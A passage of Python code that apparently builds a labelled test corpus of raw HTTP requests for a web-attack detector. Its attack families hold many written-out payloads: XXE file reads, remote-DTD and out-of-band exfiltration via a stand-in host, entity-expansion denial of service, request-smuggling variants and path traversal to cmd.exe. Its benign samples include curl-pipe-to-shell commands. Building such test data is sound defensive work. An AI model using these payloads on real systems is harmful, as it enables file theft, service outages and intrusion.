            raw = mk(meth, tmpl, hdrs_attack(host, ctype="application/json"), json.dumps({loc[5:]: p, "copies": 1}))
        else:
            raw = mk(meth, tmpl, hdrs_attack(host, extra=[(loc[7:], p)]))
        out.append((f"Windows command injection: {note} ({loc})", raw))
    return out


def fam_xxe():
    X = []
    X.append(('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<order><id>&xxe;</id></order>',
              "SYSTEM file:///etc/passwd", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY file SYSTEM "file:///etc/hostname">\n]>\n<data><name>&file;</name></data>',
              "SYSTEM file:///etc/hostname", "text/xml"))
    X.append(('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n'
              '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser xmlns="urn:example:users"><id>&x;</id></GetUser></soap:Body></soap:Envelope>',
              "SOAP envelope with SYSTEM entity", "text/xml; charset=utf-8"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY p PUBLIC "-//A//B//EN" "http://203.0.113.42/x.dtd">]>\n<r>&p;</r>',
              "PUBLIC external entity over http", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<contact><email>&src;</email></contact>',
              "php://filter base64 source read", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]>\n<r><q>&e;</q></r>', "expect://id command execution", "text/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % remote SYSTEM "http://203.0.113.42/evil.dtd">\n%remote;\n]>\n<r/>',
              "parameter entity loading remote DTD", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % file SYSTEM "file:///etc/passwd">\n<!ENTITY % dtd SYSTEM "http://xxe.oast.example/oob.dtd">\n%dtd;\n%send;\n]>\n<r>go</r>',
              "out-of-band exfiltration via parameter entities", "application/xml"))
    laughs = ['<!ENTITY lol "lol">', '<!ENTITY lol1 "' + "&lol;" * 10 + '">']
    for k in range(2, 10):
        laughs.append(f'<!ENTITY lol{k} "' + f"&lol{k-1};" * 10 + '">')
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ' + "\n ".join(laughs) + '\n]>\n<lolz>&lol9;</lolz>',
              "billion laughs entity expansion", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "' + "A" * 30000 + '">]>\n<kaboom>' + "&a;" * 3000 + "</kaboom>",
              "quadratic blowup (30 KB entity referenced 3000 times)", "text/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE s [\n<!ENTITY % d "<!ENTITY x &#x53;YSTEM \'file:///etc/passwd\'>">\n%d;\n]>\n<s>&x;</s>',
              "external entity declared through a parameter entity, SYSTEM keyword hidden as &#x53;", "application/xml"))
    X.append(('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
              "XInclude of file:///etc/passwd", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>\n<r>&x;</r>', "SYSTEM file:///c:/windows/win.ini", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]>\n<r>&x;</r>', "netdoc: scheme (Java)", "text/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://203.0.113.7/a.zip!/b.txt">]>\n<r>&x;</r>', "jar: scheme", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "gopher://198.51.100.23:25/_HELO%20x">]>\n<r>&x;</r>', "gopher: SSRF via entity", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
              '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n%local_dtd;\n]>\n<message>x</message>',
              "local DTD repurposing, error-based", "application/xml"))
    X.append(('<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://203.0.113.42/ext.dtd"><foo>bar</foo>', "external DTD subset by SYSTEM id", "application/xml"))
    X.append(("<?xml version='1.0'?>\n<!DOCTYPE  foo  [  <!ENTITY   xxe   SYSTEM  'file:///etc/group' >  ]>\n<foo>&xxe;</foo>",
              "whitespace + single-quote variation", "application/xml"))
    X.append(('<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>&x;</methodName><params/></methodCall>',
              "XML-RPC call with external entity", "text/xml"))
    X.append(('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<rss version="2.0"><channel><title>&x;</title><link>https://blog.example.net/</link><description>d</description></channel></rss>',
              "RSS feed import with external entity", "application/rss+xml"))
    X.append(('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE env:Envelope [<!ENTITY % p SYSTEM "http://203.0.113.7/p.dtd">%p;]>\n'
              '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><m:Get xmlns:m="urn:example"/></env:Body></env:Envelope>',
              "SOAP 1.2 with parameter entity", "application/soap+xml; charset=utf-8"))
    X.append(('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>', "recursive entity definitions", "application/xml"))
    out = []
    paths = ["/api/orders", "/xmlrpc.php", "/services/UserService", "/api/import", "/feed/import", "/ws/soap", "/upload/xml", "/saml/acs"]
    for i, (x, note, ct) in enumerate(X):
        hs = hdrs_attack(pick(ALL_HOSTS), ctype=ct)
        if "soap" in note.lower() and "1.2" not in note:
            hs.append(("SOAPAction", '"urn:example:users#GetUser"'))
        out.append((f"XXE: {note} ({ct})", mk("POST", paths[i % len(paths)], hs, x)))
    # SVG upload with XXE in multipart
    svg = '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>'
    ctype, body = multipart([([("Content-Disposition", 'form-data; name="avatar"; filename="me.svg"'), ("Content-Type", "image/svg+xml")], svg)])
    out.append(("XXE: SVG avatar upload with external entity (multipart)", mk("POST", "/profile/avatar", hdrs_attack(pick(ALL_HOSTS), ctype=ctype), body)))
    # UTF-16 encoded XXE
    x16 = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>'
    out.append(("XXE: UTF-16LE encoded document with BOM (encoding evasion)", mk("POST", "/api/import", hdrs_attack(pick(ALL_HOSTS), ctype="application/xml"), b"\xff\xfe" + x16.encode("utf-16-le"))))
    return out


def fam_malformed():
    M = []
    H = "shop.example.com"
    UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"

    def r(s):
        return s.encode("latin-1") if isinstance(s, str) else s

    sm = "GET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    M.append(("CL.TE: Content-Length and Transfer-Encoding chunked, smuggled G prefix",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nUser-Agent: {UA}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG")))
    body = f"0\r\n\r\n{sm}"
    M.append(("CL.TE: smuggled full request after terminating chunk",
              r(f"POST /search HTTP/1.1\r\nHost: {H}\r\nContent-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n{body}")))
    inner = "GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n"
    body = f"{len(inner):x}\r\n{inner}\r\n0\r\n\r\n"
    M.append(("TE.CL: chunked body hides second request, short Content-Length",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{body}")))
    M.append(("TE.CL: Transfer-Encoding first, then Content-Length 3",
              r(f"POST /api/cart HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n")))
    M.append(("duplicate Content-Length, equal values",
              r(f"POST /login HTTP/1.1\r\nHost: {H}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\nContent-Length: 11\r\n\r\nuser=a&p=b1")))
    M.append(("duplicate Content-Length, different values",
              r(f"POST /login HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\n\r\nuser=a&p=b1")))
    M.append(("Content-Length list with differing values '5, 11'",
              r(f"POST /login HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5, 11\r\n\r\nuser=a&p=b1")))
    M.append(("non-numeric Content-Length", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Length: abc\r\n\r\n{{}}")))
    M.append(("negative Content-Length", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Length: -1\r\n\r\n{{}}")))
    M.append(("signed Content-Length +12", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Type: application/json\r\nContent-Length: +12\r\n\r\n{{\"a\":\"bcde\"}}")))
    M.append(("hex Content-Length 0x0c", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Length: 0x0c\r\n\r\n{{\"a\":\"bcde\"}}")))
    M.append(("Content-Length with trailing garbage '12a'", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Length: 12a\r\n\r\n{{\"a\":\"bcde\"}}")))
    M.append(("Content-Length overflowing 64 bits", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nContent-Length: 18446744073709551617\r\n\r\n{{}}")))
    M.append(("Transfer-Encoding 'chunked, identity' (chunked not final) with CL",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n")))
    M.append(("Transfer-Encoding 'xchunked' with CL", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n")))
    M.append(("'Transfer-Encoding : chunked' (space before colon) with CL",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n")))
    M.append(("tab before Transfer-Encoding value, plus Content-Length (CL.TE)",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n")))
    M.append(("tab between header name and colon 'Transfer-Encoding\\t:'",
              r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n")))
    M.append(("'Transfer-Encoding: Chunked' case trick with CL", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: Chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n")))
    M.append(("'transfer-encoding: cHuNkEd' mixed case with CL", r(f"POST / HTTP/1.1\r\nHost: {H}\r\ntransfer-encoding: cHuNkEd\r\ncontent-length: 5\r\n\r\n0\r\n\r\n")))
    M.append(("two Transfer-Encoding headers (chunked, identity)", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n")))
    M.append(("two Transfer-Encoding headers (chunked, x) with CL", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n")))
    M.append(("Transfer-Encoding on an HTTP/1.0 request", r(f"POST /api HTTP/1.0\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\ntest\r\n0\r\n\r\n")))
    M.append(("obs-fold continuation hides Transfer-Encoding value", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n")))
    M.append(("obs-fold continuation line in custom header", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-Long: first part\r\n\tsecond part\r\nAccept: */*\r\n\r\n")))
    M.append(("bare CR inside header line hides Transfer-Encoding", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nX-Foo: a\rTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n")))
    M.append(("bare CR as line terminator", r(f"GET /index.html HTTP/1.1\r\nHost: {H}\rAccept: */*\r\n\r\n")))
    M.append(("bare LF line endings throughout", r(f"GET /index.html HTTP/1.1\nHost: {H}\nUser-Agent: {UA}\nAccept: */*\n\n")))
    M.append(("bare LF on one header line smuggling Transfer-Encoding", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nX-A: b\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")))
    M.append(("NUL byte in header value", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-Name: adm\x00in\r\nAccept: */*\r\n\r\n")))
    M.append(("NUL byte in header name", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-A\x00b: 1\r\n\r\n")))
    M.append(("NUL byte in Host value", r(f"GET / HTTP/1.1\r\nHost: {H}\x00.evil.example.net\r\n\r\n")))
    M.append(("control bytes 0x01 and 0x7f in header value", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nUser-Agent: a\x01b\x7fc\r\n\r\n")))
    M.append(("vertical tab before Transfer-Encoding value with CL", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n")))
    M.append(("form feed in Content-Length value", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length:\x0c3\r\n\r\nabc")))
    M.append(("header name with space 'Content Length'", r(f"POST / HTTP/1.1\r\nHost: {H}\r\nContent Length: 3\r\n\r\nabc")))
    M.append(("header name with '(' character", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-Test(1): a\r\n\r\n")))
    M.append(("empty header name", r(f"GET / HTTP/1.1\r\nHost: {H}\r\n: orphan-value\r\n\r\n")))
    M.append(("header line without colon", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-Broken header\r\n\r\n")))
    many = "".join(f"X-Custom-{k}: v{k}\r\n" for k in range(120))
    M.append(("120 headers (exceeds common 100-header limit)", r(f"GET / HTTP/1.1\r\nHost: {H}\r\n{many}\r\n")))
    M.append(("70 KiB single header value (oversized head)", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nX-Pad: {'A' * (70 * 1024)}\r\n\r\n")))
    big = "; ".join(f"c{k}={'b' * 1000}" for k in range(80))
    M.append(("80 KB Cookie header (oversized head)", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nCookie: {big}\r\n\r\n")))
    M.append(("invalid method token 'G=T'", r(f"G=T / HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("method with non-token char 'GE T' style (double space in request line)", r(f"GET  /index.html HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("HTTP/1.2 version string", r(f"GET / HTTP/1.2\r\nHost: {H}\r\n\r\n")))
    M.append(("HTTP/2.0 version text on an HTTP/1 connection", r(f"GET / HTTP/2.0\r\nHost: {H}\r\n\r\n")))
    M.append(("lowercase protocol name 'http/1.1'", r(f"GET / http/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("missing Host on HTTP/1.1", r(f"GET /index.html HTTP/1.1\r\nUser-Agent: {UA}\r\nAccept: */*\r\n\r\n")))
    M.append(("two Host headers with different values", r(f"GET / HTTP/1.1\r\nHost: {H}\r\nHost: internal-admin.svc.cluster.local\r\n\r\n")))
    M.append(("'Host :' with space before colon", r(f"GET / HTTP/1.1\r\nHost : {H}\r\n\r\n")))
    M.append(("absolute-form target disagrees with Host", r(f"GET http://internal-admin.svc.cluster.local/ HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("invalid percent-encoding %zz in path", r(f"GET /files/%zz/report HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("truncated percent-encoding at end of path", r(f"GET /files/report%2 HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("truncated percent-encoding %e", r(f"GET /a%e/b HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("overlong UTF-8 %c0%af path traversal", r(f"GET /cgi-bin/..%c0%af..%c0%af..%c0%afetc/passwd HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("overlong UTF-8 3-byte %e0%80%af traversal", r(f"GET /static/..%e0%80%af..%e0%80%afetc/passwd HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("overlong UTF-8 %c1%9c (IIS unicode) traversal", r(f"GET /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("space inside request target", r(f"GET /search?q=a b HTTP/1.1\r\nHost: {H}\r\n\r\n")))
    M.append(("chunk size with 0x prefix", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n0x4\r\ntest\r\n0\r\n\r\n")))
    M.append(("chunk size overflow", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff1\r\nx\r\n0\r\n\r\n")))
    M.append(("chunk data with bare LF terminators", r(f"POST /api HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n4\ntest\n0\n\n")))
    return M


# ===========================================================================
# BENIGN
# ===========================================================================
SEARCH_PHRASES = [
    "select specialty hospital", "select comfort mattress review", "union station parking rates", "drop shipping suppliers",
    "bash away in the gym playlist", "ls 300 lexus", "lexus ls 460 timing belt", "cat food for the rm dept",
    "who am i song lyrics", "who am i jackie chan", "id card renewal", "id card renewal appointment",
    "ping pong table", "ping pong table outdoor folding", "superhero;man x-ray vision", "cat and dog grooming near me",
    "rm williams boots sale", "curl cream for 4c hair", "perl jam tour 2024", "python snake enclosure size",
    "sleep 10 hours still tired", "echo dot 5th gen vs 4th gen", "kill bill soundtrack", "chmod meaning",
    "wget vs curl difference", "netcat cafe opening hours", "nc state football schedule", "shell gas station coupons",
    "sh-boom lyrics", "powershell vs cmd for beginners", "what is a cron job", "cmd shortcut keys",
    "ps 5 slim bundle", "ps aux meaning linux", "top 10 cat breeds", "head and shoulders shampoo",
    "tail light replacement cost", "more or less synonyms", "find my iphone", "sort by price low to high",
    "tar heels basketball", "zip code lookup 90210", "touch lamp bedside", "kill a watt meter",
    "exec assistant jobs", "run dmc tickets", "system of a down toxicity", "eval form template",
    "sudo sudoku puzzle", "man utd fixtures", "man o war jellyfish", "whoami command windows",
    "id software doom eternal", "net user group meaning", "dir en grey concert", "type c cable 2m",
    "java coffee beans bulk", "ruby ring size 7", "go kart track open now", "rust proof paint",
    "select all shortcut mac", "insert key on laptop", "delete facebook account", "update drivers windows 11",
    "drop ceiling tiles 2x4", "create account bank", "alter ego meaning", "truncate meaning in math",
    "grant application deadline 2024", "revoke power of attorney form", "union jack cushion", "where clause example",
    "cat 6 ethernet cable 50ft", "cat c15 engine specs", "cat5e vs cat6", "cat 320 excavator weight",
    "echo canyon trail", "bin collection day", "bin sh meaning", "etc abbreviation meaning", "passwd forgotten gmail",
    "root vegetables recipe", "admin assistant salary", "tmp agency near me", "var meaning in javascript",
    "null island", "sleep number bed", "at&t outage", "h&m returns", "b&q opening times", "procter & gamble careers",
    "r&b playlist 90s", "ben & jerry's flavours", "m&s food hall", "q&a session template",
]
SEARCH_SUFFIX = ["", "", "", " near me", " review", " 2024", " price", " reddit", " uk", " best", " vs", " for sale", " how to"]

REVIEW_SENTENCES = [
    "Bought this for my cat; she loves it and the bowl is sturdy.",
    "Use it to bash away in the gym every morning, battery lasts all week.",
    "Our ping pong table fits perfectly in the garage.",
    "Ordered the LS 300 floor mats, exact fit & great quality.",
    "The rm dept at work asked me to order cat food for the office cat, lol.",
    "Who am I to complain? Shipping took 2 days.",
    "Renewed my ID card online in 10 minutes - select 'standard' and you're done.",
    "Great for drop shipping; union of two suppliers in one dashboard.",
    "R&D team uses it daily. Tom & Jerry stickers were a nice touch.",
    "Works with Windows & Mac; on Linux I had to run it as root (fine).",
    "Price | quality | support: 5 | 4 | 5.",
    "If you're wondering: yes, it supports the 'sleep 10 minutes' timer.",
    "Pros: quiet; cheap; small. Cons: the cable is short.",
    "My kid asked 'who am i?' after watching the movie, lol.",
    "Echo is clear, the mic picks up everything & the app is decent.",
    "Five stars. Would select again.",
    "I'd rate it 4/5 -- delete one star for the packaging.",
    "Cat6 cable, 50ft, passes 1Gbps no problem.",
    "Fits the Cat 320 bucket pin perfectly, heavy duty.",
    "Returned it: the 'drop' test (1m onto tiles) cracked the screen.",
    "Superhero;man x-ray vision costume was a hit at the party.",
    "Tip: set the ping pong net tension to 'medium', per the manual.",
    "The shell is tough; the inner lining is soft.",
    "Ran 10k with these, no blisters. Update: still great after 300 miles.",
    "Exec chair is comfy, arm rests a bit low.",
    "Great for anyone who wants to learn Python -- the book starts from zero.",
    "Kill switch on the mower works as advertised.",
    "Set it up in < 5 min; the instructions were 1-2-3.",
    "Bought 3 (one for me, one for mum & one for dad).",
    "Compared to the old one (model X-200), this is 2x faster.",
    "Smells like cat food... but my dog doesn't care.",
    "It's the 'who's who' of kitchen gadgets: select, chop, blend.",
    "The #1 reason I bought it: the 100% cotton cover.",
    "Version 2.0 fixed the Bluetooth drop-outs; firmware update took 3 min.",
    "Wife says it's 'sh-boom' worthy, whatever that means.",
    "Power supply: 12V/2A. Took a while to find the right adapter.",
    "ETA was Monday; arrived Tuesday. No big deal.",
    "Question: does it fit a 2019 Lexus LS? Answer from seller: yes.",
    "I use it with my bin collection schedule app, handy.",
    "Colour is more teal than blue; still nice.",
]
FORUM_TITLES = ["Help with my new ping pong table", "Cat food recommendations?", "LS 300 vs LS 460", "Who am I - lyrics thread",
                "ID card renewal took forever", "Best gym playlist to bash away to", "Union station parking tips", "Drop ship or not?",
                "Tom & Jerry box set", "R&D budget question", "superhero;man costume ideas", "Select specialty hospital experience"]


def b_search():
    out = []
    eps = [("/search?q={q}", "site search"), ("/s?k={q}&ref=nb_sb_noss", "shop search"), ("/results?search_query={q}", "video search"),
           ("/api/search?term={q}&page={p}&limit=20", "search API"), ("/forum/search?keywords={q}&sort=relevance", "forum search"),
           ("/catalog/search?query={q}&category=all", "catalog search"), ("/autocomplete?prefix={q}", "autocomplete")]
    for i in range(150):
        phrase = SEARCH_PHRASES[i % len(SEARCH_PHRASES)] + SEARCH_SUFFIX[(i * 7) % len(SEARCH_SUFFIX)]
        tmpl, desc = eps[(i * 3) % len(eps)]
        host = pick(HOSTS_PUBLIC)
        if i % 4 == 0:
            q = quote(phrase, safe="")
        else:
            q = quote_plus_safe(phrase)
        target = tmpl.format(q=q, p=R.randint(1, 9))
        if "api" in tmpl or "autocomplete" in tmpl:
            hs = hdrs_browser(host, accept="application/json, text/plain, */*", referer=f"https://{host}/", nav=False)
        else:
            hs = hdrs_browser(host, referer=f"https://{host}/" if R.random() < 0.7 else None)
        if i % 10 == 9:
            body = json.dumps({"query": phrase, "filters": {"inStock": True}, "page": 1})
            raw = mk("POST", "/api/search", hdrs_api(host, ctype="application/json"), body)
            desc = "search API POST JSON"
        else:
            raw = mk("GET", target, hs)
        out.append(("search_prose", f"{desc}: {phrase!r}", raw))
    return out


def quote_plus_safe(s):
    return quote(s, safe="").replace("%20", "+")


def b_reviews():
    out = []
    for i in range(130):
        n = 2 + (i % 3)
        text = " ".join(R.sample(REVIEW_SENTENCES, n))
        host = pick(HOSTS_PUBLIC)
        kind = i % 4
        if kind == 0:
            body = json.dumps({"productId": f"SKU-{R.randint(10000, 99999)}", "rating": R.randint(3, 5), "title": text.split(".")[0][:60],
                               "body": text, "recommend": True})
            raw = mk("POST", "/api/v1/reviews", hdrs_browser(host, accept="application/json", nav=False, extra=[("Content-Type", "application/json"), ("Origin", f"https://{host}")]), body)
            d = "product review JSON"
        elif kind == 1:
            title = pick(FORUM_TITLES)
            body = form([("subject", title), ("message", text + "\n\nThanks!"), ("topic_id", str(R.randint(100, 9999))),
                         ("csrf_token", "%032x" % R.getrandbits(128))])
            raw = mk("POST", "/forum/posting.php?mode=reply&t=%d" % R.randint(1000, 99999),
                     hdrs_browser(host, referer=f"https://{host}/forum/viewtopic.php", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", f"https://{host}")]), body)
            d = "forum reply form"
        elif kind == 2:
            body = json.dumps({"comment": {"body": text, "parent_id": None if R.random() < 0.5 else R.randint(1, 5000)}, "post_slug": "weekend-thread-%d" % i})
            raw = mk("POST", "/api/comments", hdrs_api(host, ua=pick(BROWSER_UAS), ctype="application/json"), body)
            d = "blog comment JSON"
        else:
            ctype, body = multipart([([("Content-Disposition", 'form-data; name="rating"')], str(R.randint(1, 5))),
                                     ([("Content-Disposition", 'form-data; name="review"')], text),
                                     ([("Content-Disposition", 'form-data; name="nickname"')], pick(["sam_r", "Jo & Al", "who_am_i", "bash.bro", "cat-lady"]))])
            raw = mk("POST", "/reviews/new", hdrs_browser(host, extra=[("Content-Type", ctype)]), body)
            d = "review multipart form"
        out.append(("reviews_forum", d, raw))
    return out


TUTORIAL_SNIPPETS = [
    ("Install the CLI", "curl -fsSL https://get.example.com/install.sh | sh"),
    ("Install with wget", "wget -qO- https://downloads.example.org/setup.sh | bash"),
    ("List files", "ls -la ~/projects"),
    ("Find the nginx process", "ps aux | grep nginx"),
    ("Make the script executable", "chmod +x ./deploy.sh && ./deploy.sh"),
    ("Restart the service", "sudo systemctl restart nginx"),
    ("Check your distro", "cat /etc/os-release"),
    ("Open a shell in the pod", "kubectl exec -it web-0 -- /bin/sh"),
    ("Throwaway container", "docker run --rm -it alpine sh -c 'echo hello'"),
    ("Delete old logs", "find /var/log/myapp -name '*.log' -mtime +7 -delete"),
    ("Print your PATH", "echo $PATH"),
    ("One-liner", "python3 -c 'import sys; print(sys.version)'"),
    ("Who am I?", "whoami && id -u"),
    ("Check connectivity", "ping -c 3 example.com"),
    ("Tail the logs", "tail -f /var/log/syslog | grep -i error"),
    ("Disk usage", "du -sh * | sort -h"),
    ("Generate a key", "ssh-keygen -t ed25519 -C \"you@example.com\""),
    ("Count lines", "wc -l $(git ls-files '*.rs')"),
    ("Rename in bulk", "for f in *.jpeg; do mv \"$f\" \"${f%.jpeg}.jpg\"; done"),
    ("Uninstall", "sudo rm -rf /opt/exampleapp"),
    ("Decode a secret", "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d"),
    ("Schedule a job", "crontab -e  # then add: 0 3 * * * /usr/local/bin/backup.sh"),
    ("Homebrew", "/bin/bash -c \"$(curl -fsSL https://raw.example.com/Homebrew/install/HEAD/install.sh)\""),
    ("Rust toolchain", "curl --proto '=https' --tlsv1.2 -sSf https://sh.example.org/rustup | sh"),
    ("Kernel info", "uname -a"),
    ("Check DNS", "nslookup example.com 192.0.2.53"),
    ("Port check", "nc -zv db.internal 5432"),
    ("PowerShell", "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }"),
    ("Windows", "dir /s /b C:\\Users\\me\\Documents\\*.docx"),
]
TUTORIAL_TITLES = ["Getting started with our CLI", "Debugging a crashed pod", "10 shell tricks I use every day",
                   "Migrating from Docker Compose to Kubernetes", "Setting up a home lab", "Linux basics for data scientists",
                   "How we cut our CI time in half", "Automating backups with cron", "A gentle intro to bash"]


def tutorial_md(k):
    title = TUTORIAL_TITLES[k % len(TUTORIAL_TITLES)]
    snips = R.sample(TUTORIAL_SNIPPETS, 2 + k % 3)
    parts = [f"# {title}\n", "In this post we walk through the steps. You'll need a terminal; on Windows use WSL.\n"]
    for h, cmd in snips:
        parts.append(f"## {h}\n\nRun:\n\n```{pick(['bash', 'sh', 'console', 'shell', ''])}\n{cmd}\n```\n")
        if R.random() < 0.4:
            parts.append(f"Or inline: `{cmd.splitlines()[0]}` -- that's it.\n")
    parts.append("Questions? Leave a comment below.\n")
    return title, "\n".join(parts)


def b_docs():
    out = []
    for i in range(95):
        host = pick(["cms.example.org", "blog.example.net", "docs.example.org", "wiki.internal.example.com", "gitlab.example.com"])
        title, md = tutorial_md(i)
        kind = i % 6
        if kind == 0:
            body = json.dumps({"title": title, "slug": title.lower().replace(" ", "-"), "status": "draft", "content_markdown": md, "tags": ["linux", "howto"]})
            raw = mk("POST", "/wp-json/wp/v2/posts", hdrs_api(host, ua=pick(BROWSER_UAS), ctype="application/json", extra=[("X-WP-Nonce", "%010x" % R.getrandbits(40))]), body)
            d = "CMS post JSON with shell commands in code fences"
